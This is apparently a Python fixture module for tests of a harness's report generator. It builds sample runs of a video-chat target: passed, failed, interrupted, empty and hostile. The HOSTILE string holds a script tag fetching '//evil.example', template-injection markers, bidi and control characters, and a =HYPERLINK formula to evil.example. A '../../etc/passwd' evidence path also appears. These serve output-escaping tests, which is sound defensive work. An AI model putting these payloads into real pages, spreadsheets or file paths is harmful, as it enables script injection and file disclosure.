"""Runs to report on: passed, in trouble, interrupted, hostile in every field, empty."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from harness.model import (
    CellResult,
    Coverage,
    ExampleKind,
    ExampleResult,
    Exit,
    Finding,
    Layer,
    Metric,
    Observation,
    Phase,
    Provenance,
    Remediation,
    Requirement,
    Resource,
    Run,
    Severity,
    Source,
    Status,
    StepResult,
    Target,
    Tool,
)
from reports.exhibits import TIMELINE_TYPE, TRANSCRIPT_TYPE
from reports.tests.example_catalogue import CONFLICTS, GUIDES, catalogue
from reports.tests.example_evidence import Store, picture, timeline, transcript

#: Break-outs of script, attribute and comment, template code, ANSI, bidi, controls, a formula, length.
HOSTILE = (
    "<script>fetch('//evil.example')</script>\"' onload=x --> ]]> {{ 7*7 }} {% raw %} "
    '\x1b[31mred\x1b[0m \u202egpj.exe\u2066 \x00\x07\x85\ufeff =HYPERLINK("//evil.example") ' + "long" * 60
)


@dataclass(frozen=True)
class Recorded:
    """A run and its evidence."""

    run: Run
    store: Store

    def evidence(self, sha256: str) -> bytes | None:
        """Read one file of it."""
        return self.store.files.get(sha256)


_STEPS = (
    ("Given", "Ben is on the video queue", 0.41),
    ("And", "Ana’s widget offers text only", 0.12),
    ("When", "Ana asks for video", 0.33),
    ("Then", "Ben sees nobody for 2 seconds", 2.05),
    ("And", "WEB-T1 is reported against Ana’s widget", 0.01),
)


def _steps(
    failed_at: int | None = None, steps: tuple[tuple[str, str, float], ...] = _STEPS
) -> tuple[StepResult, ...]:
    def verdict(number: int) -> str:
        if failed_at is None or number < failed_at:
            return "passed"
        return "failed" if number == failed_at else "skipped"

    return tuple(
        StepResult(keyword=keyword, text=text, verdict=verdict(number), duration_s=seconds)
        for number, (keyword, text, seconds) in enumerate(steps)
    )


def _observations(seen: bool, evidence: tuple[str, ...]) -> tuple[Observation, ...]:
    return (
        Observation(
            fact="capability.video",
            subject="Ana",
            value={"mediaTypes": ["text", "video"] if seen else ["text"]},
            source=Source.API,
            phase=Phase.GIVEN,
            at_s=0.4,
        ),
        Observation(
            fact="video.seen",
            subject="Ben sees Ana",
            value=seen,
            source=Source.FRAMES,
            phase=Phase.THEN,
            at_s=3.2,
            evidence=evidence,
        ),
        Observation(
            fact="video.delay_ms",
            subject="Ben sees Ana",
            value=83.33333 if seen else None,
            source=Source.FRAMES,
            phase=Phase.THEN,
            at_s=3.2,
        ),
    )


def example(
    store: Store, requirement: str, layer: Layer, kind: ExampleKind, browser: str = "chromium", **changes: Any
) -> ExampleResult:
    """An Example that passed, with every kind of evidence; `changes` replaces fields."""
    is_remedy = kind is ExampleKind.REMEDY
    picture_label = "What Ben received from Ana" if is_remedy else "What Ben had instead: no picture"
    names = (timeline(store, 1.8 if is_remedy else None), transcript(store, is_remedy))
    if layer is Layer.MEDIA:
        shade = len(requirement) * 7 + 40 * is_remedy
        names = (store.put("image/png", picture_label, picture(shade)), *names)
    values: dict[str, Any] = {
        "name": "Ana upgrades and both see each other" if is_remedy else "Ana’s widget offers text only",
        "rule": f"{requirement} holds",
        "feature": "Video from a text conversation",
        "kind": kind,
        "verdict": "passed",
        "caught": () if is_remedy else (requirement,),
        "duration_s": 2.917,
        "browser": browser,
        "steps": _steps(),
        "observations": _observations(is_remedy, names[:1]),
        "evidence": names,
        "repeat": f"python3 -m harness run --req {requirement} --layer {layer} --browser {browser}",
    }
    return ExampleResult.model_validate({**values, **changes})


def both(store: Store, requirement: str, layer: Layer) -> tuple[ExampleResult, ...]:
    """Its trap and its remedy, passed."""
    return tuple(example(store, requirement, layer, kind) for kind in ExampleKind)


def _passed(store: Store, requirement: str, layer: Layer) -> CellResult:
    return CellResult(
        requirement=requirement, layer=layer, status=Status.PASS, examples=both(store, requirement, layer)
    )


def _open_cells(requirements: tuple[Requirement, ...], told: list[CellResult]) -> list[CellResult]:
    known = {(cell.requirement, cell.layer) for cell in told}
    return [
        CellResult(requirement=requirement.id, layer=layer, status=Status.NOT_ASSESSED, reason="no_scenario")
        for requirement in requirements
        for layer in requirement.layers
        if (requirement.id, layer) not in known
    ]


def make(requirements: tuple[Requirement, ...], told: list[CellResult], store: Store, **changes: Any) -> Run:
    """A run of the embedded target that tells these cells and leaves the rest without a scenario."""
    described = {requirement.id for requirement in requirements}
    told = [cell for cell in told if cell.requirement in described]
    cells = told + _open_cells(requirements, told)
    open_count = sum(cell.status is Status.NOT_ASSESSED for cell in cells)
    values: dict[str, Any] = {
        "tool": Tool(name="sightline", version="0.1.0", catalogue_digest="sha256:5b1f0c9e77aa"),
        "target": Target(
            kind="embedded", name="Reference target", capabilities=("stage", "turn", "chromium")
        ),
        "started": "2026-11-21T10:50:03Z",
        "ended": "2026-11-21T10:50:26.4Z",
        "interrupted": False,
        "command": ("python3", "-m", "harness", "run"),
        "environment": {
            "browsers": {"chromium": "156.0", "firefox": "140.5"},
            "turn": "coturn 4.6.1",
            "cores": 2,
        },
        "results": tuple(cells),
        "metrics": tuple(
            Metric(name="media.first_frame_ms", value=value, unit="ms") for value in (312.0, 287.5, 841.0)
        ),
        "conflicts": CONFLICTS,
        "guides": GUIDES,
        "requirements": requirements,
        "evidence": store.items,
        "coverage": Coverage(
            cells_planned=len(cells),
            proved=sum(len(requirement.proved) for requirement in requirements),
            assessed=len(cells) - open_count,
            not_assessed={"no_scenario": open_count},
        ),
        "exit": Exit(code=0, why=("5 proved cells passed: trap caught and remedy shown in each",)),
    }
    return Run.model_validate({**values, **changes})


def healthy(only: tuple[str, ...] = ()) -> Recorded:
    """Three requirements, five cells, all passed; one remedy in Firefox as well."""
    store = Store()
    firefox = example(
        store,
        "WEB-T1",
        Layer.MEDIA,
        ExampleKind.REMEDY,
        browser="firefox",
        name="A Firefox customer upgrades",
    )
    web = _passed(store, "WEB-T1", Layer.MEDIA)
    told = [
        _passed(store, "WEB-T1", Layer.BEHAVIOUR),
        web.model_copy(update={"examples": (*web.examples, firefox)}),
        _passed(store, "CHAT-T1", Layer.BEHAVIOUR),
        _passed(store, "CHAT-T1", Layer.MEDIA),
        _passed(store, "ONEWAY-T4", Layer.MEDIA),
    ]
    return Recorded(make(catalogue(only), told, store), store)


_MESSAGE = """expected: Ben sees Ana within 5 seconds of her upgrade
seen: no frame with Ana’s stamp in 5.0 s; 96 frames sent, 0 presented
where: Ana’s widget → Ben’s desktop, relay candidate pair over TCP
next: open the timeline below; if frames left Ana and none arrived, look at the relay"""


def _broken_cells(store: Store) -> list[CellResult]:
    trap, remedy = both(store, "WEB-T1", Layer.MEDIA)
    failed = {"verdict": "failed", "message": _MESSAGE, "steps": _steps(failed_at=3)}
    crashed = {
        "verdict": "error",
        "reason": "browser_died",
        "message": "The browser went away while Ana waited for video.",
        "steps": _steps(failed_at=2),
        "evidence": ("f" * 64, "../../etc/passwd"),
        "observations": (),
        "caught": (),
    }
    blocked = {
        "verdict": "not_assessed",
        "reason": "blocked_by CHAT-C4",
        "steps": _steps(failed_at=1),
        "caught": (),
    }
    return [
        CellResult(
            requirement="WEB-T1",
            layer=Layer.MEDIA,
            status=Status.FAIL,
            examples=(trap, remedy.model_copy(update=failed)),
        ),
        CellResult(
            requirement="ONEWAY-T4",
            layer=Layer.MEDIA,
            status=Status.ERROR,
            examples=tuple(one.model_copy(update=crashed) for one in both(store, "ONEWAY-T4", Layer.MEDIA)),
        ),
        CellResult(
            requirement="CHAT-T1",
            layer=Layer.MEDIA,
            status=Status.NOT_ASSESSED,
            reason="blocked_by CHAT-C4",
            examples=tuple(one.model_copy(update=blocked) for one in both(store, "CHAT-T1", Layer.MEDIA)),
        ),
    ]


def finding(**changes: Any) -> Finding:
    """A queue of the target that rings for voice."""
    values: dict[str, Any] = {
        "requirement": "CHAT-C4",
        "severity": Severity.CRITICAL,
        "resource": Resource(type="routing_queue", id="b3a1-77", name="Claims", path="/mediaSettings/video"),
        "message": "Queue “Claims” is offered video and asks its agents for no video skill",
        "expected": "a hard requirement of skill Video_Certified",
        "actual": "no skill required",
        "implied": ("CHAT-C6",),
        "remediation": Remediation(
            text="Require the skill on the routing rule of the queue.",
            terraform='resource "genesyscloud_routing_queue" "claims" {\n  skill_groups = ["video"]\n}',
            api="PUT /api/v2/routing/queues/b3a1-77",
        ),
        "provenance": Provenance(source="live: /api/v2/routing/queues", collected_at="2026-11-21T10:49:00Z"),
        "fingerprint": "fp1:91c0d2",
    }
    return Finding.model_validate({**values, **changes})


def troubled(only: tuple[str, ...] = ()) -> Recorded:
    """Every status at once: passed, failed, error, blocked, manual, not applicable, and findings."""
    store = Store()
    told = [
        *_broken_cells(store),
        _passed(store, "WEB-T1", Layer.BEHAVIOUR),
        _passed(store, "CHAT-T1", Layer.BEHAVIOUR),
        CellResult(requirement="CHAT-C4", layer=Layer.CONFIG, status=Status.FAIL),
        CellResult(
            requirement="CHAT-P2", layer=Layer.CONFIG, status=Status.MANUAL, reason="ask_the_administrator"
        ),
        CellResult(
            requirement="WEB-P1", layer=Layer.CONFIG, status=Status.NOT_APPLICABLE, reason="other_licence"
        ),
    ]
    findings = (
        finding(requirement="WEB-P1", severity=Severity.LOW, waiver="W-12, until 2026-12-31", implied=()),
        finding(),
    )
    why = (
        "WEB-T1 media: the remedy was not shown",
        "CHAT-C4 config: 1 critical finding",
        "ONEWAY-T4 media: error",
    )
    run = make(
        catalogue(only),
        told,
        store,
        findings=findings,
        exit=Exit(code=1, why=why),
        subject={"name": "acme-widget", "digest": "sha256:0f9a"},
    )
    return Recorded(run, store)


def interrupted() -> Recorded:
    """A run that was killed after its first cell: no end, and most cells not even listed."""
    store = Store()
    cell = _passed(store, "WEB-T1", Layer.BEHAVIOUR)
    changes: dict[str, Any] = {
        "interrupted": True,
        "ended": None,
        "results": (cell,),
        "coverage": Coverage(cells_planned=280, proved=5, assessed=1),
        "exit": Exit(code=3, why=("interrupted after 1 of 10 Examples",)),
    }
    return Recorded(make(catalogue(), [cell], store, **changes), store)


def empty() -> Recorded:
    """A run that says nothing at all."""
    store = Store()
    nothing: dict[str, Any] = {"guides": (), "conflicts": (), "metrics": (), "environment": {}, "command": ()}
    return Recorded(make((), [], store, exit=Exit(code=3, why=("nothing collected",)), **nothing), store)


def hostile(text: str = HOSTILE) -> Recorded:
    """Troubled, with that text in every field that takes any text, and in the evidence."""
    calm = troubled(("WEB-T1", "CHAT-T1", "CHAT-C4", "ONEWAY-T4"))
    store = Store()
    curve = {
        "unit": text,
        "series": [{"name": text, "points": [[0, 1], [1, 2]]}],
        "marks": [{"t": 0, "label": text}],
    }
    exchange = {"at_s": 0, "actor": text, "kind": text, "direction": text, "summary": text, "status": text}
    names = (
        store.put_json(TIMELINE_TYPE, text, curve),
        store.put_json(TRANSCRIPT_TYPE, text, [exchange]),
        store.put("image/png", text, picture(width=24, height=40)),
        store.put("text/html", text, text.encode("utf-8", "replace")),
        text,
    )
    data = _poisoned(calm.run.model_dump(mode="json"), text)
    for cell in data["results"]:
        for shown in cell["examples"]:
            shown["evidence"] = names
    data["evidence"] = {name: item.model_dump() for name, item in store.items.items()}
    data["results"].append({"requirement": text, "layer": "config", "status": "fail", "reason": text})
    return Recorded(Run.model_validate(data), store)


_CLOSED = {"severity", "status", "layer", "layers", "proved", "proof", "kind", "verdict", "source", "phase"}
_REFERRING = {"requirement", "requirements", "implied", "implies", "caught", "confidence"}
_REQUIREMENT_ID = re.compile(r"[A-Z]+-[PCTE][0-9]+")


def _poisoned(value: Any, text: str, key: str = "") -> Any:
    """The same tree with the text for every string that is neither a requirement's id nor of a closed set."""
    if isinstance(value, dict) and key != "proof":
        return {name: _poisoned(item, text, name) for name, item in value.items()}
    if isinstance(value, list):
        return [_poisoned(item, text, key) for item in value]
    is_free = (
        isinstance(value, str) and key not in _CLOSED | _REFERRING and not _REQUIREMENT_ID.fullmatch(value)
    )
    return text if is_free else value
